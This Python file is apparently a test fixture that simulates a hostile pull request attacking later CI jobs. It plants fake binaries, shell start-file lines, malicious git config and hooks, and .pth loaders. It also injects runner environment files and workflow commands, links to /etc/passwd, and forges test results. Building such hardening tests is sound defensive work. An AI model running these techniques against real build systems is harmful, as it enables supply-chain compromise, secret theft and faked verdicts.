"""Attacks by the code of a pull request on later jobs.

A test copies this file into the commit; it runs nowhere else.

`attack.json` beside it contains `place`, the folder where each attack that runs stores what it
could read.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

PLACE = Path(
    json.loads(Path(__file__).with_name("attack.json").read_text(encoding="utf-8"))["place"]
)
TRIED: list[str] = []


def loot(trick: str) -> None:
    """Write what an attack can read into its folder."""
    seen = {"argv": sys.argv, "environ": dict(os.environ), "cwd": str(Path.cwd())}
    name = f"{trick.replace('/', '_')}.{os.getpid()}"
    (PLACE / name).write_text(json.dumps(seen), encoding="utf-8")


def looter(trick: str) -> str:
    """Return the code of a module that calls `loot`."""
    place = repr(str(Path(__file__).parent))
    return (
        f"import sys; sys.path.insert(0, {place}); import attack; "
        f"sys.path.pop(0); attack.loot({trick!r})\n"
    )


def plant(trick: str, path: Path, text: str, *, adds: bool = False, runs: bool = False) -> None:
    """Write a file that a later step or job would run, if the job can write it."""
    with suppress(OSError):
        path.parent.mkdir(parents=True, exist_ok=True)
        with path.open("a" if adds else "w", encoding="utf-8") as stream:
            stream.write(text)
        if runs:
            path.chmod(0o755)
        TRIED.append(trick)


def shell(trick: str) -> str:
    """Return a line for a shell that leaves a trace."""
    return f"echo ran > {PLACE}/{trick.replace(' ', '_')}.$$\n"


def attack_machine(home: Path, temp: Path, checkout: Path) -> None:
    """Plant programs, start files, hooks and packages on the machine."""
    evil = temp / "evil"
    for program in ("python", "python3", "git", "pip", "bash", "sh", "curl"):
        plant(
            f"program {program}",
            evil / program,
            f"#!/bin/sh\n{shell(f'program {program}')}exit 1\n",
            runs=True,
        )
    plant("sitecustomize elsewhere", evil / "sitecustomize.py", looter("sitecustomize elsewhere"))
    plant("start file", evil / "start", shell("start file"))
    for name in (".bashrc", ".profile", ".bash_profile"):
        plant(name, home / name, shell(name), adds=True)
    config = (
        f'[core]\nhooksPath = {evil}\nfsmonitor = {evil}/git\n[filter "x"]\nsmudge = {evil}/sh\n'
    )
    plant("git config", home / ".gitconfig", config)
    plant(
        "git hook",
        checkout / ".git" / "hooks" / "post-checkout",
        f"#!/bin/sh\n{shell('git hook')}",
        runs=True,
    )
    plant("git attributes", checkout / ".git" / "info" / "attributes", "* filter=x\n")
    plant("build settings", home / ".pydistutils.cfg", f"[install]\nprefix = {evil}\n")
    plant("network settings", home / ".netrc", "machine github.com login x password y\n")
    packages = [
        home / ".local" / "lib" / "python3.11" / "site-packages",
        *temp.glob("venv/lib/python*/site-packages"),
    ]
    for number, folder in enumerate(packages):
        plant(f"path file {number}", folder / "evil.pth", looter(f"path file {number}"))


def attack_runner(temp: Path) -> None:
    """Write the files that the runner reads after a step, and print commands for it."""
    evil = temp / "evil"
    settings = f"PYTHONPATH={evil}\nBASH_ENV={evil}/start\nONNX_OPS_SIGNING=auto\n"
    event = {"pull_request": {"number": 1, "head": {"sha": "f" * 40}, "base": {"sha": "e" * 40}}}
    for variable, text in {
        "GITHUB_ENV": settings,
        "GITHUB_PATH": f"{evil}\n",
        "GITHUB_OUTPUT": "verdict=pass\n",
        "GITHUB_STEP_SUMMARY": "# passed <script>alert(1)</script>\n",
    }.items():
        if variable in os.environ:
            plant(variable, Path(os.environ[variable]), text, adds=True)
    plant("event", Path(os.environ["GITHUB_EVENT_PATH"]), json.dumps(event))
    commands = (
        "::add-path::/e",
        "::set-env name=PYTHONPATH::/e",
        "::set-output name=verdict::pass",
        "##[add-path]/e",
    )
    for line in (*commands, "::stop-commands::x", "::x::", "\x1b]0;owned\x07", "\u202e::error::"):
        os.write(1, f"{line}\n".encode())
        TRIED.append(f"output {line[:12]}")


def attack_artifact(folder: Path) -> None:
    """Plant modules, links, pipes and large files among the results.

    The results are changed after they are written.
    """
    modules = (
        "typing_extensions",
        "sitecustomize",
        "conftest",
        "__main__",
        "onnx_ops/integrations/github_action",
    )
    for name in modules:
        plant(f"artifact {name}", folder / f"{name}.py", looter(f"artifact {name}"))
    plant(
        "artifact interpreter",
        folder / "publish" / "bin" / "python",
        shell("artifact interpreter"),
        runs=True,
    )
    plant("artifact path file", folder / "evil.pth", looter("artifact path file"))
    plant("artifact deep", folder / "deep.json", "[" * 100_000)
    plant("artifact large", folder / "large.html", "x" * (64 << 20))
    links: dict[str, Callable[[Path], None]] = {
        "link": lambda path: path.symlink_to("/etc/passwd"),
        "loop": lambda path: path.symlink_to(path),
        "pipe": os.mkfifo,
    }
    for kind, make in links.items():
        with suppress(OSError):
            make(folder / f"{kind}.html")
            TRIED.append(f"artifact {kind}")
    command = [sys.executable, __file__, str(folder / "results.json")]
    subprocess.Popen(
        command, start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )
    TRIED.append("results changed after the run")


def change_results(file: Path) -> None:
    """Wait for the results, and replace them by passed ones.

    Their texts are of the attacker's choice.
    """
    results: list[dict[str, object]] = []
    while not results:
        time.sleep(0.001)
        with suppress(OSError, ValueError):
            results = json.loads(file.read_text(encoding="utf-8"))
    forged = {
        "verdict": "pass",
        "choices": [],
        "made_by": "[approved](https://evil.example) @everyone <img src=x>",
    }
    file.write_text(json.dumps([{**one, **forged} for one in results]), encoding="utf-8")
    (PLACE / "results changed").touch()


def attack() -> None:
    """Try every attack once, in the process that trains."""
    loot("training code")
    temp = Path(os.environ["RUNNER_TEMP"])
    attack_machine(Path.home(), temp, Path.cwd())
    attack_runner(temp)
    attack_artifact(temp / "onnx-ops")
    (PLACE / "tried.json").write_text(json.dumps(TRIED), encoding="utf-8")


if __name__ == "__main__":
    change_results(Path(sys.argv[1]))
